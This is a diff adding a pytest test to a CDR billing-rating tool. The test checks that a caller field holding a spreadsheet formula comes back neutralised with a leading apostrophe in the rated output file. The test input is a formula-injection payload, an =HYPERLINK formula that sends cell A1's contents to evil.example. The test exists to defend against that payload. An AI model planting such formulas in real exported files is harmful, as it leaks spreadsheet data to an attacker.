@@ -170,3 +170,13 @@ def test_the_process_exit_status_and_no_database_file(tmp_path):
                       "--out", str(tmp_path / "rated2.csv"))
     assert missing.returncode != 0
     assert "cannot read rates file" in missing.stderr and "No such file or directory" in missing.stderr
+
+
+def test_a_formula_in_an_uploaded_cdr_comes_back_as_text_in_the_rated_file(tmp_path):
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    cdrs = tmp_path / "evil.csv"
+    cdrs.write_text("id,direction,caller,callee,answer_time,billsec,disposition\n"
+                    f'e1,outbound,"{hyperlink.replace(chr(34), chr(34) * 2)}",+12125551234,2024-01-15T10:30:00Z,45,'
+                    "ANSWERED\n", encoding="utf-8")
+    rows, _out, _err = run(tmp_path, cdrs, "rates.csv", "--format", "portal", "--region", "US")
+    assert (rows[0]["caller"], rows[0]["callee"], rows[0]["status"]) == ("'" + hyperlink, "+12125551234", "rated")
